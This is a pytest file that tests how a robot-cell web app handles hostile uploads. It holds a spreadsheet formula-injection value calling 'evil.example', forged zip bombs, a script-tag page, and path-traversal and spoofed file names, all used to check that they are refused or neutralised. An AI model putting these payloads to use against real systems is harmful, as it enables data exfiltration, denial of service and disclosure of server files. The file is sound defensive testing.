"""Files that are broken, misleading or malicious: refused in plain words, or harmless."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import shop
from web_shop import SEED, Client, Shop

from robotrue.app.workbench.workbench_calls import save_cell_text
from robotrue.errors import ConfigurationError
from robotrue.store.verify import verify
from robotrue.web.uploads import FOLDER

HEADER = "j1_deg,j2_deg,j3_deg,j4_deg,j5_deg,j6_deg,x_mm,y_mm,z_mm\n"
ROW = "0,-90,90,0,0,0,1200.0,0.0,1500.0\n"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open me")'

FORMULA_ROW = ROW.replace("1200.0", '"' + FORMULA.replace('"', '""') + '"')


def tracker(filled: Shop, rows: int = 12) -> str:
    joints = shop.postures(rows, SEED)
    path = shop.write_csv(filled.folder / "simulated any.csv", joints, shop.points(joints))
    return path.read_text()


def zipped(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, content in files.items():
            bundle.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def bomb() -> bytes:
    """A workbook of a few kB that says it is 2 GB when unpacked."""
    data = bytearray(zipped(xl__workbook=bytes(1000)))
    size = (2_000_000_000).to_bytes(4, "little")
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = size
    return bytes(data)


def lying_bomb() -> bytes:
    """A workbook that says it is small and is 600 MB when unpacked."""
    sheet = b"<row>" + b"<c><v>1</v></c>" * 1_000_000
    data = bytearray(zipped(xl__worksheets__sheet1=sheet * 4))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


TABLES: dict[str, tuple[str, Callable[[Shop], bytes]]] = {
    "binary": ("poses.csv", lambda _: bytes(range(256)) * 40),
    "nothing but blanks": ("poses.csv", lambda _: b" \n\n \t\n"),
    "cut off in mid-row": ("poses.csv", lambda f: tracker(f).encode()[:-40]),
    "cut off in mid-character": ("poses.csv", lambda f: (tracker(f) + "1,2,µ").encode()[:-1]),
    "wrong columns": ("poses.csv", lambda _: b"a,b,c\n1,2,3\n"),
    "half of UTF-16": ("poses.csv", lambda f: tracker(f).encode("utf-16")[:-1]),
    "one huge line": ("poses.csv", lambda _: HEADER.encode() + b"1," * 2_000_000 + b"\n"),
    "one huge cell": ("poses.csv", lambda _: HEADER.encode() + b'"' + b"x" * 3_000_000),
    "a program": ("poses.csv", lambda _: shop.PROGRAM.encode()),
    "a page": ("poses.csv", lambda _: b"<html><script>alert(1)</script></html>"),
    "a zip": ("poses.csv", lambda _: zipped(a=b"1,2\n")),
    "no workbook": ("poses.xlsx", lambda f: tracker(f).encode()),
    "a damaged workbook": ("poses.xlsx", lambda _: zipped(xl__workbook=b"<a")[:-9]),
    "a bomb": ("poses.xlsx", lambda _: bomb()),
    "a bomb that lies": ("poses.xlsx", lambda _: lying_bomb()),
    "a formula for a number": ("poses.csv", lambda _: (HEADER + FORMULA_ROW).encode()),
    "infinite": ("poses.csv", lambda _: (HEADER + ROW.replace("1200.0", "1e999")).encode()),
    "not a number": ("poses.csv", lambda _: (HEADER + ROW.replace("1200.0", "nan")).encode()),
}  # fmt: skip


@pytest.fixture(autouse=True)
def nothing_left(filled: Shop) -> Iterator[None]:
    """Nothing of what was sent lies about afterwards, and everything else is whole."""
    incoming = filled.workspace.folder / FOLDER
    before = set(incoming.iterdir()) if incoming.is_dir() else set()
    yield
    assert (set(incoming.iterdir()) if incoming.is_dir() else set()) == before
    found = verify(filled.workspace)
    assert (found.faults, found.unnamed) == ((), ())


@pytest.mark.parametrize("what", TABLES)
def test_tables_that_are_none_are_refused_in_plain_words(
    client: Client, filled: Shop, what: str
) -> None:
    name, content = TABLES[what]
    here = client()
    listed = here.get("/api/items/measurement").json()["total"]
    sent = here.post(f"/api/files?name={name}", content=content(filled))
    answer = sent
    if sent.status_code == 201:
        asked = {"uploads": [sent.json()["id"]], "cell": filled.cell.id}
        answer = here.post("/api/measurements", json=asked)
        here.delete(f"/api/files/{sent.json()['id']}")
    assert answer.status_code in (400, 422), answer.text[:500]
    said = answer.json()
    assert 10 < len(said["detail"]) < 600, said
    assert said.get("hint"), said
    assert "Traceback" not in answer.text
    assert str(filled.workspace.folder) not in answer.text  # nor where it lies on the server
    assert here.get("/api/items/measurement").json()["total"] == listed


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "cp1252"])
def test_what_a_spreadsheet_exports_is_read(client: Client, filled: Shop, encoding: str) -> None:
    here = client()
    sent = here.post("/api/files?name=poses.csv", content=tracker(filled).encode(encoding)).json()
    asked = {"uploads": [sent["id"]], "cell": filled.cell.id}
    made = here.post("/api/measurements", json=asked)
    assert made.json()["poses"] == 12
    here.delete(f"/api/items/measurement/{made.json()['id']}")


@pytest.mark.parametrize("start", ["", "\ufeff"], ids=["plain", "with a mark"])
@pytest.mark.parametrize(
    "named",
    [
        '[controller]\nfiles = ["{file}"]\n',
        "[controller]\n'files' = ['{file}']\n",
        'controller = {{ files = ["{file}"] }}\n',
    ],
    ids=["a table", "a quoted key", "in a line"],
)
def test_a_cell_names_no_file_of_the_server(
    client: Client, filled: Shop, tmp_path: Path, named: str, start: str
) -> None:
    """A controller's file of the server must not become one that can be downloaded."""
    secret = tmp_path / "$config.dat"
    secret.write_text(
        "DEFDAT $CONFIG\nBASE_DATA[1]={X 1.0,Y 2.0,Z 3.0,A 0.0,B 0.0,C 0.0}\nENDDAT\n"
    )
    here = client()
    for file in (secret, Path("..") / ".." / secret.name):
        line = named.format(file=file.as_posix())
        table = line if line.startswith("[") else ""
        top = "" if table else line
        text = start + top + shop.CELL + table
        sent = here.post("/api/files?name=cell.toml", content=text.encode()).json()["id"]
        answer = here.post("/api/cells", json={"uploads": [sent]})
        assert answer.status_code == 400, answer.text
        assert "did not come with it" in answer.json()["detail"]
        here.delete(f"/api/files/{sent}")
    line = named.format(file=secret.name)
    text = (line if not line.startswith("[") else "") + shop.CELL
    text += line if line.startswith("[") else ""
    both = [
        here.post(f"/api/files?name={name}", content=content).json()["id"]
        for name, content in (("cell.toml", text.encode()), ("$config.dat", secret.read_bytes()))
    ]
    made = here.post("/api/cells", json={"uploads": both})
    assert made.status_code == 201, made.text  # what came with it, it may name
    here.delete(f"/api/items/cell/{made.json()['id']}")


def test_a_cell_that_is_typed_names_no_file_of_the_server_either(filled: Shop) -> None:
    text = shop.CELL + '[controller]\nfiles = ["/etc/hostname"]\n'
    with pytest.raises(ConfigurationError, match="did not come with it"):
        save_cell_text(str(filled.workspace.folder), text, "typed", "", 0)
    with pytest.raises(ConfigurationError, match="did not come with it"):
        save_cell_text(str(filled.workspace.folder), text, "", filled.cell.id, filled.cell.version)


def test_names_of_files_stay_text(client: Client, filled: Shop) -> None:
    here = client()
    for name in ("../../../evil.src", FORMULA[:80] + ".src", "..\\..\\x.src", "\u202egpj.src"):
        content = f"; {name!a}\n{shop.PROGRAM}".encode()
        sent = here.post("/api/files", params={"name": name}, content=content).json()
        made = here.post("/api/programs", json={"uploads": [sent["id"]], "name": name}).json()
        (file,) = [each for each in made["attachments"] if each["role"] == "program"]
        assert not re.search(r"[/\\:|\"<>\x00-\x1f]|^\.", file["name"]), file["name"]
        assert made["name"] == name  # shown as text, wherever it is shown
        answer = here.get(file["href"])
        assert answer.content == content
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["content-type"] == "application/octet-stream"
        here.delete(f"/api/items/program/{made['id']}")


def test_the_first_thing_that_is_wrong_leaves_the_rest_to_try_again(
    client: Client, filled: Shop
) -> None:
    here = client()
    good = here.post("/api/files?name=poses.csv", content=tracker(filled).encode()).json()["id"]
    bad = here.post("/api/files?name=worse.csv", content=b"a,b\n1,2\n").json()["id"]
    asked: dict[str, Any] = {"uploads": [good, bad], "cell": filled.cell.id}
    assert here.post("/api/measurements", json=asked).status_code == 400
    made = here.post("/api/measurements", json={**asked, "uploads": [good]})
    assert made.status_code == 201  # still there
    here.delete(f"/api/files/{bad}")
    here.delete(f"/api/items/measurement/{made.json()['id']}")
